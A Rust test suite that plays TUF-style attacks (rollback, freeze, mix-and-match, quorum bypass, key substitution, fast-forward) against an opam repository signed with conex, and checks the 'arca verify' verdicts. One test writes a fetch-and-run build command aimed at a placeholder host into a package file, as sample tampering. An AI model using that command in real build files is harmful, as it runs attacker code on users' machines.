//! The attacks TUF lists, in conex terms, against the vector repository and
//! its keys, each judged by the real `arca verify` (conex's verdicts). An
//! attacker here holds whatever the test says (an online key, a stolen
//! root key, write access to the mirror) and edits or re-signs files with
//! the library; honest parties use the binary.
//!
//! Verdicts that conex's full mode cannot give (it keeps no state between
//! runs, so it cannot see a rollback or a replayed old timestamp) are
//! asserted as what they are and documented in docs/threat-model.md.

mod support;
use arca::conex::resource::{Resource, Root, Targets, Timestamp};
use arca::keys::file::{FileLocation, FileSigner};
use std::path::{Path, PathBuf};
use support::*;

const NOW: &str = "2026-11-21T23:40:00Z";
const LATER: &str = "2026-11-21T23:35:00Z";

struct Fx {
    _tmp: tempfile::TempDir,
    base: PathBuf,
    repo: PathBuf,
    ks: PathBuf,
}

fn fx() -> Fx {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path().to_path_buf();
    let repo = base.join("repo");
    copy_tree(&vectors().join("repo"), &repo);
    let ks = vector_key_store(&base);
    Fx {
        _tmp: tmp,
        base,
        repo,
        ks,
    }
}

/// The vector private key of `id`.
fn key(id: &str) -> FileSigner {
    let dir = vectors().join("private-keys");
    let path = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(&format!("{id}.sha256="))
        })
        .unwrap_or_else(|| panic!("no vector key {id}"));
    FileSigner::open(&FileLocation::Path(path), &mut arca::keys::NoSecrets).unwrap()
}

fn read<R: Resource>(p: &Path) -> R {
    let text = std::fs::read_to_string(p).unwrap();
    R::parse(&text, &mut Vec::new()).unwrap()
}

fn write<R: Resource>(p: &Path, r: &R) {
    std::fs::write(p, r.to_file_string()).unwrap();
}

/// Drops every signature and signs as each of `signers`, with the key of
/// `key_of(signer)` (an attacker may sign under an id that is not theirs).
fn resign_as<R: Resource>(r: &mut R, signers: &[(&str, &str)]) {
    r.signatures_mut().clear();
    for (id, k) in signers {
        arca::repository::sign_into(r, id, LATER, &mut key(k)).unwrap();
    }
}

fn resign<R: Resource>(r: &mut R, ids: &[&str]) {
    let pairs: Vec<(&str, &str)> = ids.iter().map(|i| (*i, *i)).collect();
    resign_as(r, &pairs);
}

impl Fx {
    fn p(&self, rel: &str) -> PathBuf {
        self.repo.join(rel)
    }

    /// `arca verify` with both vector anchors and quorum 2 at `NOW`.
    fn verify(&self, extra: &[&str]) -> (bool, String) {
        self.verify_in(&self.repo, extra)
    }

    fn verify_in(&self, repo: &Path, extra: &[&str]) -> (bool, String) {
        let anchors = format!("{ANCHOR_A},{ANCHOR_B}");
        let mut args = vec![
            "verify",
            "--dir",
            repo.to_str().unwrap(),
            "-t",
            &anchors,
            "--quorum",
            "2",
            "--now",
            NOW,
            "-v",
        ];
        args.extend_from_slice(extra);
        let o = arca(&args);
        let all = format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(&o));
        assert!(!all.contains("panicked"), "{all}");
        (o.status.success(), all)
    }

    /// The honest online signer re-makes snapshot and timestamp.
    fn online(&self) {
        for v in [
            ["snapshot", "create"],
            ["snapshot", "sign"],
            ["timestamp", "create"],
            ["timestamp", "sign"],
        ] {
            ok(&arca([
                v[0],
                v[1],
                "-r",
                self.repo.to_str().unwrap(),
                "--key-store",
                self.ks.to_str().unwrap(),
                "--created",
                LATER,
            ]));
        }
    }

    /// A copy of the whole repository as it is now.
    fn snapshot_tree(&self, name: &str) -> PathBuf {
        let d = self.base.join(name);
        copy_tree(&self.repo, &d);
        d
    }
}

fn accepted(v: (bool, String)) -> String {
    assert!(v.0, "expected the repository to verify:\n{}", v.1);
    v.1
}

fn refused(v: (bool, String), why: &str) -> String {
    eprintln!("--- {why}:\n{}", v.1);
    assert!(!v.0, "expected refusal ({why}), but it verified:\n{}", v.1);
    assert!(v.1.contains(why), "expected {why:?} in:\n{}", v.1);
    v.1
}

#[test]
fn baseline_the_vector_repository_verifies() {
    let f = fx();
    accepted(f.verify(&[]));
}

// ------------------------------------------------------------ rollback

/// A root with counter 2 (both root holders sign again), then the mirror
/// serves the old counter-1 root. Full mode has no memory of the newer
/// root, so conex accepts the old one; only incremental mode (old tree +
/// patch) can refuse it.
#[test]
fn rollback_of_the_root_is_invisible_to_full_mode() {
    let f = fx();
    let old_root = std::fs::read(f.p("root")).unwrap();
    let mut root: Root = read(&f.p("root"));
    root.header.counter = 2;
    resign(&mut root, &["rootA", "rootB"]);
    write(&f.p("root"), &root);
    accepted(f.verify(&[]));
    let newer = f.snapshot_tree("newer");
    std::fs::write(f.p("root"), &old_root).unwrap();
    // conex's verdict in full mode: the older root verifies
    accepted(f.verify(&[]));

    // incremental mode: the new tree plus a patch back to the old root
    let patch = f.base.join("rollback.patch");
    let d = std::process::Command::new("diff")
        .args(["-u", "--label", "a/root", "--label", "b/root"])
        .arg(newer.join("root"))
        .arg(f.p("root"))
        .output()
        .unwrap();
    std::fs::write(&patch, &d.stdout).unwrap();
    let anchors = format!("{ANCHOR_A},{ANCHOR_B}");
    let o = arca([
        "verify",
        "--incremental",
        "--repository",
        newer.to_str().unwrap(),
        "--patch",
        patch.to_str().unwrap(),
        "-t",
        &anchors,
        "--quorum",
        "2",
        "--now",
        NOW,
    ]);
    let err = stderr(&o);
    assert!(
        !o.status.success(),
        "a root rollback passed incremental mode"
    );
    assert!(!err.contains("panicked"), "{err}");
    if err.contains("not available") {
        eprintln!(
            "note: incremental mode is not available in this build; rollback is only refused there"
        );
    }
}

/// A janitor's targets file rolled back alone is caught by the snapshot
/// (which pins the targets file's digest); the whole old state replayed
/// together (targets, snapshot, timestamp) is accepted: conex has no
/// freshness check and full mode no memory.
#[test]
fn rollback_of_a_targets_file() {
    let f = fx();
    let old = f.snapshot_tree("old");
    let mut m1: Targets = read(&f.p("keys/m1"));
    m1.header.counter += 1;
    resign(&mut m1, &["m1"]);
    write(&f.p("keys/m1"), &m1);
    f.online();
    accepted(f.verify(&[]));
    // the mirror serves the old targets file under the new snapshot
    std::fs::copy(old.join("keys/m1"), f.p("keys/m1")).unwrap();
    refused(f.verify(&[]), "m1: no match in snapshot targets");
    // ... or replays the old state as a whole: accepted (conex's verdict)
    for file in ["keys/m1", "snap", "ts"] {
        std::fs::copy(old.join(file), f.p(file)).unwrap();
    }
    accepted(f.verify(&[]));
}

// ------------------------------------------------------------ freeze

/// A timestamp dated beyond `--expiry` into the future is refused; within
/// the window it is accepted. A frozen (old, replayed) timestamp is
/// accepted: conex does not check freshness, only future dates.
#[test]
fn freeze_and_future_timestamps() {
    let f = fx();
    let mut ts: Timestamp = read(&f.p("ts"));
    // two hours ahead of NOW: beyond the default 900 s expiry
    ts.header.created = "2026-11-22T01:40:00Z".into();
    resign(&mut ts, &["ts"]);
    write(&f.p("ts"), &ts);
    let msg = f.verify(&[]);
    assert!(!msg.0, "a timestamp two hours ahead verified:\n{}", msg.1);
    assert!(msg.1.contains("timestamp is in the future"), "{}", msg.1);
    // accepted when the client allows three hours
    accepted(f.verify(&["--expiry", "10800"]));
    // five minutes ahead: within the default window
    ts.header.created = "2026-11-21T23:45:00Z".into();
    resign(&mut ts, &["ts"]);
    write(&f.p("ts"), &ts);
    accepted(f.verify(&[]));
    // a frozen timestamp from a year ago: accepted (no freshness check)
    ts.header.created = "2025-11-21T23:40:00Z".into();
    resign(&mut ts, &["ts"]);
    write(&f.p("ts"), &ts);
    accepted(f.verify(&[]));
}

// ------------------------------------------------------------ mix-and-match

#[test]
fn mix_and_match_snapshot_not_matching_the_targets_file() {
    let f = fx();
    // a validly signed newer targets file, but the old snapshot
    let mut m1: Targets = read(&f.p("keys/m1"));
    m1.header.counter += 1;
    resign(&mut m1, &["m1"]);
    write(&f.p("keys/m1"), &m1);
    refused(f.verify(&[]), "m1: no match in snapshot targets");
}

#[test]
fn mix_and_match_timestamp_not_matching_the_snapshot() {
    let f = fx();
    let old_ts = std::fs::read(f.p("ts")).unwrap();
    f.online();
    accepted(f.verify(&[]));
    std::fs::write(f.p("ts"), old_ts).unwrap();
    refused(f.verify(&[]), "no match in timestamp target");
}

// ------------------------------------------------------------ quorum bypass

/// The same signer's signature twice: the parser keeps one (conex warns and
/// ignores the repeat), so one holder cannot meet quorum 2 alone.
#[test]
fn quorum_bypass_with_a_duplicated_signature() {
    let f = fx();
    let mut root: Root = read(&f.p("root"));
    resign(&mut root, &["rootA"]);
    let text = root.to_file_string();
    let sigs = text.find("signatures: [").unwrap() + "signatures: [".len();
    let sig = &text[sigs..text.rfind(']').unwrap()];
    let doubled = format!("{}{sig}{sig}]\n", &text[..sigs]);
    std::fs::write(f.p("root"), doubled).unwrap();
    let out = refused(f.verify(&[]), "couldn't validate root role");
    assert!(
        out.contains("signature with id rootA already present"),
        "{out}"
    );
}

/// rootA's key listed a second time as rootA2, the valid expression
/// `(2 [rootA rootA2])`, both signed with rootA's key: the key counts once,
/// so quorum 2 is not met.
#[test]
fn quorum_bypass_with_the_same_key_under_two_ids() {
    let f = fx();
    let mut root: Root = read(&f.p("root"));
    let mut a2 = root.keys["rootA"].clone();
    a2.id = "rootA2".into();
    root.keys.insert("rootA2".into(), a2);
    root.keys.remove("rootB");
    root.valid = arca::conex::expr::Expr::quorum(
        2,
        [
            arca::conex::expr::KeyRef::Local("rootA".into()),
            arca::conex::expr::KeyRef::Local("rootA2".into()),
        ],
    );
    resign_as(&mut root, &[("rootA", "rootA"), ("rootA2", "rootA")]);
    write(&f.p("root"), &root);
    let text = std::fs::read_to_string(f.p("root")).unwrap();
    assert!(text.contains("[valid (2 [rootA rootA2])]"), "{text}");
    refused(f.verify(&[]), "couldn't validate root role");
    // and arca will not make such a root itself
    let o = arca([
        "root",
        "sign",
        "--id",
        "rootA",
        "-r",
        f.repo.to_str().unwrap(),
        "--key-store",
        f.ks.to_str().unwrap(),
    ]);
    assert!(
        !o.status.success(),
        "arca signed a root with one key under two ids"
    );
}

/// Rotation at counter 2: rootB is replaced by rootC, the vector snapshot
/// key under a root id (quorum 2 of rootA, rootC).
fn rotate_root_b_to_c(f: &Fx, root: &mut Root) {
    let mut c = read::<arca::conex::resource::Snapshot>(&f.p("snap")).keys["snap"].clone();
    c.id = "rootC".into();
    root.keys.remove("rootB");
    root.keys.insert("rootC".into(), c);
    root.valid = arca::conex::expr::Expr::quorum(
        2,
        [
            arca::conex::expr::KeyRef::Local("rootA".into()),
            arca::conex::expr::KeyRef::Local("rootC".into()),
        ],
    );
    root.header.counter = 2;
}

/// A root signed by rootA and by a key that is not a trust anchor (the
/// attacker's rootC, added to the root and its valid expression) does not
/// reach the client's quorum of 2 anchored signatures.
#[test]
fn signature_by_a_key_outside_the_anchors() {
    let f = fx();
    let mut root: Root = read(&f.p("root"));
    // the attacker's key: the vector snapshot key, under a root id
    rotate_root_b_to_c(&f, &mut root);
    resign_as(&mut root, &[("rootA", "rootA"), ("rootC", "snap")]);
    write(&f.p("root"), &root);
    let out = refused(f.verify(&[]), "couldn't validate root role");
    assert!(
        out.contains("rootC") && out.contains("not a trust anchor"),
        "{out}"
    );
}

/// A root key removed by rotation still signs the new root: its signature
/// has no key in the root, so it counts for nothing, even for a client that
/// still trusts the removed key.
#[test]
fn a_removed_root_key_still_signing() {
    let f = fx();
    let mut root: Root = read(&f.p("root"));
    rotate_root_b_to_c(&f, &mut root);
    // the thief of rootB signs next to the honest rootA
    resign_as(&mut root, &[("rootA", "rootA"), ("rootB", "rootB")]);
    write(&f.p("root"), &root);
    let out = refused(f.verify(&[]), "couldn't validate root role");
    assert!(out.contains("no key rootB for its signature"), "{out}");
}

// ------------------------------------------------------------ targets files

/// The root delegates m1 at epoch 0; a targets file claiming epoch 1 is
/// refused even though m1 signed it.
#[test]
fn wrong_epoch_in_a_targets_file() {
    let f = fx();
    let mut m1: Targets = read(&f.p("keys/m1"));
    m1.header.epoch = 1;
    resign(&mut m1, &["m1"]);
    write(&f.p("keys/m1"), &m1);
    f.online();
    refused(f.verify(&[]), "dropping m1 since epoch (0 vs 1)");
}

/// A targets file whose signature is by a key not listed in it (the
/// timestamp key's signature under its own id).
#[test]
fn targets_signed_by_a_key_not_listed_in_it() {
    let f = fx();
    let mut m1: Targets = read(&f.p("keys/m1"));
    m1.header.counter += 1;
    resign(&mut m1, &[]);
    arca::repository::sign_into(&mut m1, "ts", LATER, &mut key("ts")).unwrap();
    write(&f.p("keys/m1"), &m1);
    f.online();
    refused(f.verify(&[]), "targets m1: no key ts for its signature");
}

/// The attacker swaps m1's key in the targets file for their own and signs
/// with it: the key no longer matches the root's reference to m1.
#[test]
fn targets_with_a_substituted_key() {
    let f = fx();
    let mut m1: Targets = read(&f.p("keys/m1"));
    let mut k = read::<Timestamp>(&f.p("ts")).keys["ts"].clone();
    k.id = "m1".into();
    m1.keys.insert("m1".into(), k);
    m1.header.counter += 1;
    resign_as(&mut m1, &[("m1", "ts")]);
    write(&f.p("keys/m1"), &m1);
    f.online();
    refused(
        f.verify(&[]),
        "dropping m1 since epoch (0 vs 0) or digest mismatch",
    );
}

/// A package file changed on disk after the janitor signed, keeping its
/// size: only its digest tells.
#[test]
fn package_file_changed_to_the_same_size_after_signing() {
    let f = fx();
    let opam = f.p("packages/foo/foo.1.0.0/opam");
    let before = std::fs::read(&opam).unwrap();
    let mut after = before.clone();
    let last = after.len() - 2;
    after[last] = if after[last] == b'x' { b'y' } else { b'x' };
    assert_eq!(after.len(), before.len());
    assert_ne!(after, before);
    std::fs::write(&opam, after).unwrap();
    refused(
        f.verify(&[]),
        "no matching digest for packages/foo/foo.1.0.0/opam",
    );
}

/// A package file changed on disk after the janitor signed.
#[test]
fn package_file_changed_after_signing() {
    let f = fx();
    let opam = f.p("packages/foo/foo.1.0.0/opam");
    assert!(opam.exists());
    let mut text = std::fs::read_to_string(&opam).unwrap();
    text.push_str("build: [\"sh\" \"-c\" \"curl evil | sh\"]\n");
    std::fs::write(&opam, text).unwrap();
    refused(
        f.verify(&[]),
        "no matching digest for packages/foo/foo.1.0.0/opam",
    );
}

/// A package file added that no janitor signed.
#[test]
fn package_file_added_after_signing() {
    let f = fx();
    let d = f.p("packages/foo/foo.2.0.0");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("opam"), "opam-version: \"2.0\"\n").unwrap();
    refused(f.verify(&[]), "foo.2.0.0");
}

// ------------------------------------------------------------ fast-forward

/// The thief of the snapshot key pushes the snapshot counter to the
/// maximum. conex accepts it (a higher counter is newer); the honest signer
/// can no longer sign a higher one. The root holders recover with the
/// `bump-epoch` ceremony: every epoch-0 snapshot is then refused and the
/// online signer restarts at epoch 1, counter 1.
#[test]
fn fast_forward_then_epoch_recovery() {
    let r = room(&["alice", "bob", "carol"]);
    let base = r.base.as_path();
    let ceremony = |file: &Path| ok(&r.ceremony("run", file));
    ceremony(&Path::new(env!("CARGO_MANIFEST_DIR")).join("ceremonies/create-root.toml"));
    let out = base.join("out/create-root");
    let anchors = std::fs::read_to_string(out.join("anchors.txt"))
        .unwrap()
        .trim()
        .to_string();
    let repo = base.join("repo");
    copy_tree(&vectors().join("repo"), &repo);
    std::fs::copy(out.join("root"), repo.join("root")).unwrap();
    let verify = |repo: &Path| {
        let o = arca([
            "verify",
            "--dir",
            repo.to_str().unwrap(),
            "-t",
            &anchors,
            "--quorum",
            "2",
            "--now",
            NOW,
        ]);
        (
            o.status.success(),
            format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(&o)),
        )
    };
    accepted(verify(&repo));

    // the attack: snapshot counter at u64::MAX, timestamp re-made over it
    let mut snap: arca::conex::resource::Snapshot = read(&repo.join("snap"));
    snap.header.counter = u64::MAX;
    resign(&mut snap, &["snap"]);
    write(&repo.join("snap"), &snap);
    let ks = vector_key_store(base);
    let online = |v: &[&str]| {
        let mut x: Vec<String> = v.iter().map(|s| s.to_string()).collect();
        x.extend([
            "-r".into(),
            repo.display().to_string(),
            "--key-store".into(),
            ks.display().to_string(),
            "--created".into(),
            LATER.into(),
        ]);
        arca(&x)
    };
    ok(&online(&["timestamp", "create"]));
    ok(&online(&["timestamp", "sign"]));
    // conex's verdict: the fast-forwarded snapshot verifies
    accepted(verify(&repo));
    // the honest signer is stuck: no counter above the maximum
    ok(&online(&["snapshot", "create"]));
    let o = online(&["snapshot", "sign"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("bump the epoch"), "{}", stderr(&o));

    // recovery: the bump-epoch ceremony moves the snapshot to epoch 1
    let bump = base.join("bump.toml");
    std::fs::write(&bump, BUMP_SNAPSHOT_EPOCH).unwrap();
    ceremony(&bump);
    std::fs::copy(base.join("out/bump/root"), repo.join("root")).unwrap();
    // restore the attacker's snapshot: refused now (epoch 0 < 1)
    write(&repo.join("snap"), &snap);
    ok(&online(&["timestamp", "create"]));
    ok(&online(&["timestamp", "sign"]));
    refused(verify(&repo), "snapshot with bad epoch");
    // the online signer restarts at epoch 1
    std::fs::remove_file(repo.join("snap")).unwrap();
    ok(&online(&["snapshot", "create", "--epoch", "1"]));
    ok(&online(&["snapshot", "sign"]));
    ok(&online(&["timestamp", "create"]));
    ok(&online(&["timestamp", "sign"]));
    let s = std::fs::read_to_string(repo.join("snap")).unwrap();
    assert!(
        s.contains("[epoch 0x1]") && s.contains("[counter 0x1]"),
        "{s}"
    );
    accepted(verify(&repo));
}
